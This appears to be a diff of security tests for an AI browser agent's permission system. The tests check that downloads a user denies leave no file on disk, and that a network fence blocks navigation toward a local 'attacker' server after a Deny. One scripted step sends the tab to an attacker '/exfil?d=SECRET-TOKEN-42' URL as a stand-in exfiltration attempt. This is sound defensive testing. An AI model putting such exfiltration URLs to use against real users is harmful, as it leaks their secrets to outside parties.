@@ -9,6 +9,9 @@
 // the tabs that exist, the tab's address, the downloads the browser kept, the stored settings.
 
 import assert from "node:assert/strict";
+import { mkdtempSync, readdirSync, rmSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
 import { after, before, test } from "node:test";
 import { launch, until } from "../lib/browser.mjs";
 import { loggingServer } from "../lib/server.mjs";
@@ -24,16 +27,21 @@ let attacker;
 let other;
 let other2;
 let chrome;
+/** The browser's downloads folder (Playwright's own handling of downloads is switched off). */
+const downloadsDir = mkdtempSync(join(tmpdir(), "hearth-downloads-"));
 before(async () => {
   site = await loggingServer("127.0.0.1", true);
   attacker = await loggingServer("localhost", false);
   other = await loggingServer("127.0.0.1", true);
   other2 = await loggingServer("127.0.0.1", false);
   chrome = await launch();
+  const cdp = await chrome.browser.newBrowserCDPSession();
+  await cdp.send("Browser.setDownloadBehavior", { behavior: "allow", downloadPath: downloadsDir });
 });
 after(async () => {
   await chrome?.close();
   for (const server of [site, attacker, other, other2]) await server?.close();
+  rmSync(downloadsDir, { recursive: true, force: true });
 });
 
 const inWorker = (expression) => chrome.console.evaluate(WORKER, expression);
@@ -42,6 +50,8 @@ const channelsUrl = () => `${site.url}/attacks/channels.html?attacker=${encodeUR
 /** The attacker's log lines that carry the secret or name `path`. */
 const reached = (server, path) => server.log.filter((l) => l.includes(path));
 const tabCount = () => inWorker(`chrome.tabs.query({}).then((t) => t.length)`);
+/** The files in the downloads folder whose name matches `pattern` (partial downloads included). */
+const filesNamed = (pattern) => readdirSync(downloadsDir).filter((f) => pattern.test(f));
 /** The browser's downloads whose file name matches `pattern`, as it keeps them. */
 const downloadsNamed = (pattern) => inWorker(`chrome.downloads.search({}).then((all) => all.filter((d) => ${pattern}.test(d.filename)).map((d) => ({ state: d.state, exists: d.exists, error: d.error ?? null })))`);
 
@@ -96,13 +106,15 @@ test("downloads are effects: a link's asks, a script's and a server's are held u
   assert.equal(await waitForTask(page, ["done", "failed", "paused"]), "done");
   assert.deepEqual(reached(site, "report.csv"), [], "the file was never requested");
   assert.deepEqual(await downloadsNamed(/report/), [], "no download");
+  assert.deepEqual(filesNamed(/report/), [], "nothing in the downloads folder");
   await page.close();
 
   // Ours: a page script saves a blob with a download link after a harmless click.
   const second = await harmlessClick('"Save invoice"', "Save the invoice.");
   await answerFenceCard(second, ["invoice.txt"], "deny", "fence-download");
-  await until(async () => (await downloadsNamed(/invoice/)).every((d) => d.state !== "in_progress"), "the held download to end");
-  assert.ok((await downloadsNamed(/invoice/)).every((d) => d.state !== "complete" && !d.exists), `no invoice file: ${JSON.stringify(await downloadsNamed(/invoice/))}`);
+  // Deny cancels it, removes what reached the disk and erases it.
+  await until(async () => (await downloadsNamed(/invoice/)).every((d) => d.state === "interrupted" && !d.exists), "the held download to be cancelled and gone");
+  assert.deepEqual(filesNamed(/invoice|crdownload/), [], "nothing in the downloads folder");
   await second.close();
 
   // Ours: a plain same-site link whose server answers with an attachment.
@@ -110,8 +122,9 @@ test("downloads are effects: a link's asks, a script's and a server's are held u
   await useScript(chrome, [call("snapshot"), call("click", `index:${indexOf('"Statement"')}`), call("wait_for", `text:${str("never shown")},timeout_seconds:4`), done("Opened it.")]);
   await ask(third, "Open the statement.");
   await answerFenceCard(third, ["statement.pdf"], "deny");
-  await until(async () => (await downloadsNamed(/statement/)).every((d) => d.state !== "in_progress"), "the held download to end");
-  assert.ok((await downloadsNamed(/statement/)).every((d) => d.state !== "complete" && !d.exists), `no statement file: ${JSON.stringify(await downloadsNamed(/statement/))}`);
+  // Deny cancels it, removes what reached the disk and erases it.
+  await until(async () => (await downloadsNamed(/statement/)).every((d) => d.state === "interrupted" && !d.exists), "the held download to be cancelled and gone");
+  assert.deepEqual(filesNamed(/statement|crdownload/), [], "nothing in the downloads folder");
   await third.close();
 });
 
@@ -256,19 +269,24 @@ test("a Deny answered after the page moved the tab approves nothing", { timeout:
   const page = await openAgentPage(chrome, channelsUrl());
   await useScript(chrome, [
     call("run_javascript", `code:${str('document.title = "RAN-HERE"')}`),
-    call("navigate", `url:${str(`${attacker.url}/exfil?d=SECRET-TOKEN-42`)}`),
+    call("wait_for", `text:${str("never shown")},timeout_seconds:8`),
     done("Done."),
   ]);
   await ask(page, "Rename the page.");
   await waitForTask(page, ["confirm"]);
+  // The run waits for the user, so the fence lifts; meanwhile the page sends the tab elsewhere.
+  const fenced = () => inWorker("chrome.declarativeNetRequest.getSessionRules().then((r) => r.length)");
+  await until(async () => (await fenced()) === 0, "the fence to lift while the card waits");
   const elsewhere = `${attacker.url}/moved-for-deny`;
   await page.evaluate((to) => void (location.href = to), elsewhere);
   await until(async () => page.url() === elsewhere, "the tab to be on the other site");
   await overlayHost(page);
   await clickLauncher(page);
   await decide(page, "deny");
-  // The model goes on from the other site (the policy sees a same-site address there); the fence,
-  // whose set the Deny did not grow, stops it.
+  // The run goes on (the fence is up again, around the task's sites only); the page there sends
+  // itself on with what it has. Had the Deny approved the tab's site, this would pass.
+  await until(async () => (await fenced()) > 0, "the fence to be up for the resumed run");
+  await page.evaluate((to) => void (location.href = to), `${attacker.url}/exfil?d=SECRET-TOKEN-42`);
   await answerFenceCard(page, [new URL(attacker.url).host, "/exfil"], "deny");
   assert.deepEqual(reached(attacker, "/exfil"), [], "nothing was sent to the other site");
   await screenshot(page, "fence-after-deny");
